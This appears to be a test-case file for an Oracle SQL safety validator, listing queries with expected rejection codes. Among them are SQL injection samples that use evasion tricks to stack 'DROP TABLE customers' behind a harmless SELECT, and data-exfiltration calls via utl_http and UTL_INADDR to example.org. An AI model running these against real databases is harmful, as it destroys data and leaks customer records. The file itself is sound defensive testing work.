### a stacked statement
#: code=multiple_statements|forbidden_operation
SELECT 1 FROM dual; DROP TABLE customers
### two harmless statements
#: code=multiple_statements
SELECT 1 FROM dual; SELECT 2 FROM dual
### a second statement after a slash
#: code=multiple_statements|forbidden_operation|syntax|not_understood
SELECT 1 FROM dual
/
DROP TABLE customers
### a second statement after a comment that does not nest
#: code=multiple_statements|forbidden_operation
SELECT 1 FROM dual /* /* */ ; DROP TABLE customers
### a second statement after a quoted literal that ends early
#: code=multiple_statements|forbidden_operation
SELECT q'[a]' FROM dual; DROP TABLE customers; SELECT q'[b]' FROM dual
### a quoted literal with another delimiter that ends early
#: code=multiple_statements|forbidden_operation
SELECT q'!a!' FROM dual; DROP TABLE customers --!'
### a backslash does not escape a quote
#: code=multiple_statements|forbidden_operation
SELECT 'a\' FROM dual; DROP TABLE customers --'
### a second statement after a NUL
#: code=not_understood|multiple_statements|forbidden_operation|syntax
#: escape=c
SELECT 1 FROM dual\x00; DROP TABLE customers
### an unterminated literal
#: code=unterminated_literal
SELECT 'abc FROM dual
### an unterminated quoted literal
#: code=unterminated_literal
SELECT q'[abc' FROM dual
### an unterminated national quoted literal
#: code=unterminated_literal
SELECT nq'{abc' FROM dual
### a delete
#: code=forbidden_operation|not_select
DELETE customers
### an update
#: code=forbidden_operation|not_select
UPDATE customers SET name = 'x'
### an insert
#: code=forbidden_operation|not_select
INSERT ALL INTO merge (id) VALUES (1) SELECT 1 FROM dual
### a merge
#: code=forbidden_operation|not_select
MERGE INTO merge m USING customers c ON (c.id = m.id) WHEN MATCHED THEN UPDATE SET m.note = 'x'
### truncate
#: code=forbidden_operation|not_select
TRUNCATE TABLE merge
### create
#: code=forbidden_operation|not_select
CREATE GLOBAL TEMPORARY TABLE x (a NUMBER)
### create or replace java
#: code=forbidden_operation|not_select
CREATE OR REPLACE AND RESOLVE JAVA SOURCE NAMED x AS class X {}
### drop
#: code=forbidden_operation|not_select
DROP TABLE customers PURGE
### alter session
#: code=forbidden_operation|not_select
ALTER SESSION SET CURRENT_SCHEMA = sys
### alter system
#: code=forbidden_operation|not_select
ALTER SYSTEM KILL SESSION '1,2'
### grant
#: code=forbidden_operation|not_select
GRANT DBA TO x
### an anonymous block
#: code=forbidden_operation|not_select|multiple_statements
BEGIN EXECUTE IMMEDIATE 'DROP TABLE customers'; END;
### a declared block
#: code=forbidden_operation|not_select|multiple_statements
DECLARE x NUMBER; BEGIN DELETE FROM customers; END;
### a call
#: code=forbidden_operation|not_select
CALL dbms_lock.sleep(10)
### lock table
#: code=forbidden_operation|not_select
LOCK TABLE customers IN EXCLUSIVE MODE
### set transaction
#: code=forbidden_operation|not_select
SET TRANSACTION READ WRITE
### commit
#: code=forbidden_operation|not_select
COMMIT
### savepoint
#: code=forbidden_operation|not_select
SAVEPOINT x
### flashback
#: code=forbidden_operation|not_select
FLASHBACK TABLE customers TO BEFORE DROP
### purge
#: code=forbidden_operation|not_select
PURGE RECYCLEBIN
### explain plan
#: code=forbidden_operation|not_select
EXPLAIN PLAN FOR DELETE FROM customers
### a comment on a table
#: code=forbidden_operation|not_select
COMMENT ON TABLE customers IS 'x'
### audit
#: code=forbidden_operation|not_select
NOAUDIT ALL
### a client's host command
#: code=forbidden_operation|not_select|syntax|not_understood
HOST ls
### a client's at sign
#: code=forbidden_operation|not_select|syntax|not_understood
@script.sql
### with function
#: code=forbidden_operation|not_understood|multiple_statements
WITH FUNCTION f RETURN NUMBER IS BEGIN RETURN 1; END; SELECT f FROM dual
### with procedure in lower case after a comment
#: code=forbidden_operation|not_understood|multiple_statements
with /* x */ procedure p is begin null; end; function f return number is begin p; return 1; end; select f from dual
### with function that runs on its own transaction
#: code=forbidden_operation|not_understood|multiple_statements
WITH FUNCTION f RETURN NUMBER IS PRAGMA AUTONOMOUS_TRANSACTION; BEGIN DELETE FROM customers; COMMIT; RETURN 1; END; SELECT f FROM dual
### with function in a subquery by a hint
#: code=forbidden_operation|not_understood|multiple_statements
SELECT /*+ WITH_PLSQL */ * FROM (WITH FUNCTION f RETURN NUMBER IS BEGIN RETURN 1; END; SELECT f AS x FROM dual)
### for update
#: code=forbidden_operation
SELECT * FROM customers FOR UPDATE
### for update of a column
#: code=forbidden_operation
SELECT * FROM customers c FOR UPDATE OF c.name WAIT 10
### for update skip locked
#: code=forbidden_operation
SELECT * FROM customers FOR/**/UPDATE SKIP LOCKED
### select into
#: code=forbidden_operation
SELECT id INTO x FROM customers
### bulk collect into
#: code=forbidden_operation
SELECT id BULK COLLECT INTO x FROM customers
### a sequence's next value
#: code=side_effect_function|forbidden_operation
SELECT s.NEXTVAL FROM dual
### a sequence's next value in lower case with a schema
#: code=side_effect_function|forbidden_operation
SELECT shop.s.nextval FROM dual
### a sequence's next value quoted
#: code=side_effect_function|forbidden_operation
SELECT s."NEXTVAL" FROM dual
### a sequence's next value split by a comment
#: code=side_effect_function|forbidden_operation
SELECT s/**/./**/NextVal + 1 FROM dual
### a table over a database link
#: code=forbidden_operation|side_effect_function
SELECT * FROM customers@remote
### a table over a database link with a schema and an alias
#: code=forbidden_operation|side_effect_function
SELECT c.id FROM shop.customers@remote.example.org c
### a table over a database link, blanks around the sign
#: code=forbidden_operation|side_effect_function
SELECT * FROM customers @ "REMOTE"
### a function over a database link
#: code=forbidden_operation|side_effect_function
SELECT f@remote(1) FROM dual
### a column over a database link in a subquery
#: code=forbidden_operation|side_effect_function
SELECT (SELECT max(id) FROM customers@remote) FROM dual
### utl_http
#: code=side_effect_function
SELECT utl_http.request('http://example.org/' || name) FROM customers
### utl_http with a schema, quoted
#: code=side_effect_function
SELECT "SYS"."UTL_HTTP"."REQUEST"('http://example.org') FROM dual
### utl_inaddr
#: code=side_effect_function
SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT name FROM customers WHERE ROWNUM = 1) || '.example.org') FROM dual
### utl_file
#: code=side_effect_function
SELECT utl_file.is_open(NULL) FROM dual
### dbms_xmlgen
#: code=side_effect_function
SELECT dbms_xmlgen.getxml('SELECT * FROM customers') FROM dual
### dbms_pipe
#: code=side_effect_function
SELECT dbms_pipe.receive_message('x', 10) FROM dual
### dbms_lock after a comment
#: code=side_effect_function
SELECT dbms_lock /* x */ . request(1) FROM dual
### dbms_random
#: code=side_effect_function
SELECT dbms_random.seed(1) FROM dual
### dbms_metadata
#: code=side_effect_function
SELECT DBMS_METADATA.GET_DDL('TABLE', 'CUSTOMERS') FROM dual
### httpuritype
#: code=side_effect_function
SELECT HTTPURITYPE('http://example.org').getclob() FROM dual
### urifactory
#: code=side_effect_function
SELECT urifactory.geturi('http://example.org').getclob() FROM dual
### httpuritype by its constructor
#: code=side_effect_function
SELECT new sys.httpuritype('http://example.org').getclob() FROM dual
### text search that runs code
#: code=side_effect_function
SELECT ctxsys.drithsx.sn(1, 'x') FROM dual
### ldap
#: code=side_effect_function
SELECT dbms_ldap.init('x', 389) FROM dual
### a large object from a file
#: code=side_effect_function
SELECT BFILENAME('D', 'x') FROM dual
### a function of somebody
#: code=side_effect_function|unknown_function|not_understood
SELECT do_something_dangerous(1) FROM dual
### a package of somebody
#: code=side_effect_function|unknown_function|not_understood
SELECT p.f(1) FROM dual
### a table function of a package
#: code=side_effect_function|unknown_function|not_understood
SELECT * FROM TABLE(p.f(1))
### a data-modifying table expression
#: code=forbidden_operation|not_understood|syntax
SELECT * FROM (DELETE FROM customers)
### an external table in line
#: code=forbidden_operation|not_understood|side_effect_function
SELECT * FROM EXTERNAL ((a NUMBER) TYPE ORACLE_LOADER DEFAULT DIRECTORY d LOCATION ('x.csv')) t
### under two hundred and fifty parentheses
#: code=not_understood
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1)))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))) FROM dual
### a comment under the strict policy
#: code=comment
#: policy=strict
SELECT id /* all */ FROM customers
